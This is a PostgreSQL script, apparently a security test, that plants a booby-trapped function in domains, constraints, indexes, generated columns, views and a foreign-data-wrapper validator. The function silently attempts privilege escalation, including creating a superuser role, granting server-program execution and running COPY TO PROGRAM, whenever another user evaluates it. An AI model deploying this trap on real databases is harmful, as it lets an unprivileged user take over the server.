CREATE ROLE mallory LOGIN PASSWORD 'm';
GRANT CREATE ON DATABASE postgres TO mallory;
SET SESSION AUTHORIZATION mallory;
CREATE SCHEMA mallory;
CREATE TABLE mallory.seen (who text);
-- Tries all it can where it is evaluated, save at the source, and never fails.
CREATE FUNCTION mallory.f(v text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE attempt text;
BEGIN
  IF session_user IN ('mallory', 'postgres') THEN RETURN true; END IF;
  FOREACH attempt IN ARRAY ARRAY[
    'INSERT INTO mallory.seen VALUES (session_user)',
    'RESET ROLE',
    'RESET SESSION AUTHORIZATION',
    'COPY (SELECT 1) TO PROGRAM ''touch MARKS/program''',
    'COPY (SELECT 1) TO ''MARKS/file''',
    'CREATE ROLE evil SUPERUSER LOGIN PASSWORD ''x''',
    'ALTER ROLE goldenrod SUPERUSER CREATEROLE REPLICATION BYPASSRLS',
    'ALTER ROLE mallory LOGIN PASSWORD ''x''',
    'ALTER DATABASE postgres SET search_path = mallory',
    'ALTER DATABASE postgres SET role = ''goldenrod''',
    'GRANT pg_execute_server_program TO goldenrod'] LOOP
    BEGIN
      EXECUTE attempt;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  RETURN true;
END $$;
CREATE DOMAIN mallory.d AS text CHECK (mallory.f(VALUE));
CREATE FUNCTION mallory.step(mallory.d, text) RETURNS mallory.d LANGUAGE sql AS 'SELECT $1';
CREATE AGGREGATE mallory.gathered(text) (sfunc = mallory.step, stype = mallory.d, initcond = 'x');
CREATE TABLE mallory.parts (k mallory.d, n int DEFAULT length('x'::mallory.d)) PARTITION BY LIST (k);
CREATE TABLE mallory.parts_x PARTITION OF mallory.parts FOR VALUES IN ('x', 'y');
CREATE VIEW mallory.v AS SELECT 'x'::mallory.d AS d;
CREATE FUNCTION mallory.defaulted(a mallory.d DEFAULT 'x'::mallory.d) RETURNS text LANGUAGE sql AS 'SELECT ''a''';
CREATE FUNCTION mallory.atomic() RETURNS int LANGUAGE sql RETURN length('x'::mallory.d);
CREATE FUNCTION mallory.g(v text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM mallory.f(v); RETURN v; END $$;
CREATE TABLE mallory.t (v text CHECK (mallory.f(v)), w text GENERATED ALWAYS AS (mallory.g(v)) STORED);
CREATE INDEX ON mallory.t (mallory.g(v));
CREATE STATISTICS mallory.s ON (mallory.g(v)), w FROM mallory.t;
INSERT INTO mallory.t VALUES ('a'), ('b');
INSERT INTO mallory.parts VALUES ('x'), ('y');
CREATE MATERIALIZED VIEW mallory.m AS SELECT mallory.g(v) FROM mallory.t;
RESET SESSION AUTHORIZATION;
CREATE FUNCTION mallory.validator(text[], oid) RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM mallory.f('x'); END $$;
CREATE FOREIGN DATA WRAPPER trap VALIDATOR mallory.validator OPTIONS (a 'b');
CREATE SERVER trapped FOREIGN DATA WRAPPER trap OPTIONS (c 'd');
